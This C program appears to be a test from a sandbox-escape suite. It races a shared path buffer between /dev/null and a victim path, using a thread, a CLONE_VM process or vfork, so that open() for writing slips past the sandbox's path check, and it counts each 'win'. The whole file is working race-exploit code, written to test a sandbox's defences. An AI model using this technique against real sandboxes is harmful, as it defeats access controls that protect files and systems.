/* A race on the path buffer: between the view reading a path argument and
 * the kernel reading it again, another thread of execution sharing the
 * memory flips it from a path the view lets through unchanged (/dev/null)
 * to VICTIM.
 *
 *   path_race MODE VICTIM [TRIES]    TRIES opens (5000) for writing of the buffer,
 *                                    more (up to 20 times as many) until one wins
 *     thread    the flipper is a thread
 *     clone-vm  the flipper is a process sharing the memory (CLONE_VM)
 *     vfork     the opens are made by a vfork child, a thread of the parent flips
 *
 * Each open that got a regular file (not /dev/null) appends a byte: natively
 * that is the victim. Exit 0 if some open got one ("wins" are counted).
 */
#include "escape.h"
#include <pthread.h>

static char buf[4096] = "/dev/null";
static const char *victim;
static volatile int stop;
static int tries = 5000, wins;

static int flip(void *unused)
{
    (void)unused;
    size_t n = strlen(victim) + 1;
    while (!stop) {
        memcpy(buf, victim, n);
        memcpy(buf, "/dev/null", 10);
    }
    return 0;
}

static void *flip_thread(void *unused)
{
    flip(unused);
    return NULL;
}

static void opens(void)
{
    for (int i = 0; i < tries || (!wins && i < 20 * tries); i++) {
        int fd = open(buf, O_WRONLY | O_APPEND);
        if (fd < 0)
            continue;  /* a torn path */
        struct stat st;
        if (!fstat(fd, &st) && S_ISREG(st.st_mode) && write(fd, "x", 1) == 1)
            wins++;
        close(fd);
    }
}

int main(int argc, char **argv)
{
    if (argc < 3)
        unsupported("usage: path_race thread|clone-vm|vfork VICTIM [TRIES]");
    const char *mode = argv[1];
    victim = argv[2];
    if (argc > 3)
        tries = atoi(argv[3]);
    if (strlen(victim) >= sizeof buf)
        unsupported("victim path too long");
    pthread_t thread;
    if (!strcmp(mode, "thread") || !strcmp(mode, "vfork")) {
        if (pthread_create(&thread, NULL, flip_thread, NULL))
            fail("pthread_create");
        if (!strcmp(mode, "thread")) {
            opens();
        } else {
            pid_t child = vfork();
            if (child == 0) {
                opens();
                _exit(0);
            }
            if (child < 0)
                fail("vfork");
            waitpid(child, NULL, 0);
        }
        stop = 1;
        pthread_join(thread, NULL);
    } else if (!strcmp(mode, "clone-vm")) {
        size_t size = 256 * 1024;
        char *stack = malloc(size);
        pid_t child = clone(flip, stack + size, CLONE_VM | SIGCHLD, NULL);
        if (child < 0)
            fail("clone");
        opens();
        stop = 1;
        waitpid(child, NULL, 0);
    } else {
        unsupported("unknown mode");
    }
    printf("wins: %d\n", wins);
    if (!wins) {
        fprintf(stderr, "no open reached a regular file in %d tries\n", 20 * tries);
        return 1;
    }
    return 0;
}
